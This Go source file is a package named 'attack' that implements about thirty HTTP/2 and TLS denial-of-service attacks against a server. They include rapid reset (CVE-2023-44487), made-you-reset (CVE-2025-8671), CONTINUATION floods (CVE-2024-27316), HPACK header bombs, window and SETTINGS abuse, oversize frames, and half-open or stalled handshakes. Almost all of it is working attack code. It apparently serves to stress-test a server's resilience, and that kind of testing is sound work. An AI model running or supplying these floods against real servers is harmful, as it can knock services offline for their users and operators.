// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"errors"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// kinds are the attacks by name.
var kinds = map[string]kind{
	"rapid-reset":      {certificate: true, help: "CONNECT and RST_STREAM at once (CVE-2023-44487)", frames: rapidReset},
	"made-you-reset":   {certificate: true, help: "CONNECT and what the victim must reset it for (CVE-2025-8671)", frames: madeYouReset},
	"late-reset":       {certificate: true, help: "RST_STREAM again and again for a stream that is gone", frames: lateReset},
	"too-many-streams": {certificate: true, help: "CONNECT without end", frames: tooManyStreams},
	"refused":          {certificate: true, help: "requests that the victim answers with 400", frames: refused},
	"ping":             {certificate: true, help: "PING", frames: ping},
	"settings":         {certificate: true, help: "SETTINGS that open and shut every window", frames: settings},
	"settings-entries": {certificate: true, help: "SETTINGS with thousands of entries", frames: settingsEntries},
	"priority":         {certificate: true, help: "PRIORITY", frames: priority},
	"unknown":          {certificate: true, help: "frames of unknown types", frames: unknown},
	"window-update":    {certificate: true, help: "WINDOW_UPDATE by one byte", frames: windowUpdate},
	"window-zero":      {certificate: true, help: "WINDOW_UPDATE by nothing", frames: windowZero},
	"window-overflow":  {certificate: true, help: "WINDOW_UPDATE beyond 2^31-1", frames: windowOverflow},
	"empty-data":       {certificate: true, help: "DATA without a byte", frames: emptyData},
	"tiny-data":        {certificate: true, help: "DATA with one byte", frames: tinyData},
	"padding":          {certificate: true, help: "DATA with one byte and 255 of padding", frames: padding},
	"continuation":     {certificate: true, help: "a header block without end (CVE-2024-27316)", frames: continuation},
	"header-bomb":      {certificate: true, help: "small blocks that decode to large header lists", frames: headerBomb},
	"many-headers":     {certificate: true, help: "thousands of header fields", frames: manyHeaders},
	"oversize":         {certificate: true, help: "a frame of 16 MiB", frames: oversize},
	"goaway":           {certificate: true, help: "GOAWAY", frames: goAways},
	"never-read":       {certificate: true, help: "200 tunnels whose downloads are never read", frames: neverRead, silent: true},
	"slow-read":        {certificate: true, help: "200 tunnels whose echo has no window", frames: slowRead},
	"brief":            {certificate: true, help: "200 tunnels whose application ends them at once", frames: brief},
	"shrink":           {certificate: true, help: "200 tunnels whose windows are shut and opened", frames: shrink},
	"plain":            {help: "bytes that are neither TLS nor HTTP/2", raw: plain},
	"http1":            {help: "HTTP/1.1 in plain text", raw: http1},
	"half-open":        {help: "750 connections each that say nothing", raw: halfOpen, each: 750},
	"hello":            {help: "TLS handshakes that stop after ClientHello, 750 each", raw: hello, each: 750},
	"no-certificate":   {help: "TLS handshakes without a certificate", raw: noCertificate},
}

// run repeats step often enough to fill a batch.
func run(n int, step func() error) error {
	for range n {
		if err := step(); err != nil {
			return err
		}
	}
	return nil
}

func rapidReset(p *peer) error {
	return run(100, func() error {
		id, err := p.connect()
		return errors.Join(err, p.fr.WriteRSTStream(id, http2.ErrCodeCancel))
	})
}

func madeYouReset(p *peer) error {
	return run(100, func() error {
		id, err := p.connect()
		return errors.Join(err, p.fr.WriteWindowUpdate(id, 0))
	})
}

func lateReset(p *peer) error {
	if p.id == 1 {
		if _, err := p.connect(); err != nil {
			return err
		}
	}
	return run(500, func() error { return p.fr.WriteRSTStream(1, http2.ErrCodeCancel) })
}

func tooManyStreams(p *peer) error {
	return run(100, func() error {
		_, err := p.connect()
		return err
	})
}

func refused(p *peer) error {
	return run(100, func() error {
		_, err := p.headers(":method", "CONNECT", ":authority", "not an authority")
		return err
	})
}

func ping(p *peer) error {
	return run(500, func() error { return p.fr.WritePing(false, [8]byte{1}) })
}

func settings(p *peer) error {
	if _, err := p.tunnel(); err != nil {
		return err
	}
	return run(200, func() error {
		return errors.Join(p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}),
			p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}))
	})
}

func settingsEntries(p *peer) error {
	many := make([]http2.Setting, 2700)
	for i := range many {
		many[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 2 << 20)}
	}
	return p.fr.WriteSettings(many...)
}

func priority(p *peer) error {
	return run(500, func() error { return p.fr.WritePriority(1, http2.PriorityParam{StreamDep: 3}) })
}

func unknown(p *peer) error {
	return run(500, func() error { return p.fr.WriteRawFrame(0x7f, 0, 0, []byte("x")) })
}

func windowUpdate(p *peer) error {
	id, err := p.tunnel()
	if err != nil {
		return err
	}
	return run(500, func() error { return p.fr.WriteWindowUpdate(id, 1) })
}

func windowZero(p *peer) error {
	return run(500, func() error { return p.fr.WriteWindowUpdate(0, 0) })
}

func windowOverflow(p *peer) error {
	id, err := p.connect()
	if err != nil {
		return err
	}
	return run(500, func() error { return p.fr.WriteWindowUpdate(id, 1<<31-1) })
}

func emptyData(p *peer) error {
	id, err := p.tunnel()
	if err != nil {
		return err
	}
	return run(500, func() error { return p.fr.WriteData(id, false, nil) })
}

// tinyData stays within the windows, as an honest peer does.
func tinyData(p *peer) error {
	return withinWindow(p, 1, func(id uint32) error { return p.fr.WriteData(id, false, []byte{1}) })
}

func padding(p *peer) error {
	pad := make([]byte, 255)
	return withinWindow(p, 257, func(id uint32) error { return p.fr.WriteDataPadded(id, false, []byte{1}, pad) })
}

// withinWindow sends frames of that size on one tunnel as long as there is window.
func withinWindow(p *peer, size int, frame func(id uint32) error) error {
	id, err := p.tunnel()
	if err != nil {
		return err
	}
	n := p.windows.take(id, 1000*size) / size
	if n == 0 {
		return errors.Join(p.w.Flush(), hold(p, time.Millisecond))
	}
	return run(n, func() error { return frame(id) })
}

func continuation(p *peer) error {
	if p.id == 1 {
		p.id += 2
		if err := p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}}); err != nil {
			return err
		}
	}
	return run(500, func() error { return p.fr.WriteContinuation(1, false, nil) })
}

// headerBomb puts one long field into the table and names it thousands of times, a byte each.
func headerBomb(p *peer) error {
	p.block.Reset()
	enc := p.enc
	if err := errors.Join(field(p, ":method", "CONNECT"), field(p, ":authority", p.cfg.Authority), field(p, "x", strings.Repeat("a", 3500))); err != nil {
		return err
	}
	enc.SetMaxDynamicTableSize(4096)
	for range 10_000 {
		p.block.WriteByte(0x80 | 62) // the table's latest entry
	}
	id := p.id
	p.id += 2
	return p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.block.Bytes(), EndHeaders: true})
}

func manyHeaders(p *peer) error {
	p.block.Reset()
	if err := errors.Join(field(p, ":method", "CONNECT"), field(p, ":authority", p.cfg.Authority)); err != nil {
		return err
	}
	for range 3000 {
		p.block.Write([]byte{0x10, 1, 'a', 1, 'b'}) // never indexed
	}
	id := p.id
	p.id += 2
	return p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.block.Bytes(), EndHeaders: true})
}

func oversize(p *peer) error {
	if err := p.fr.WriteRawFrame(http2.FrameData, 0, 1, make([]byte, 1<<24-1)); err != nil {
		return err
	}
	return p.w.Flush()
}

func goAways(p *peer) error {
	return run(500, func() error { return p.fr.WriteGoAway(0, http2.ErrCodeNo, []byte("so long")) })
}
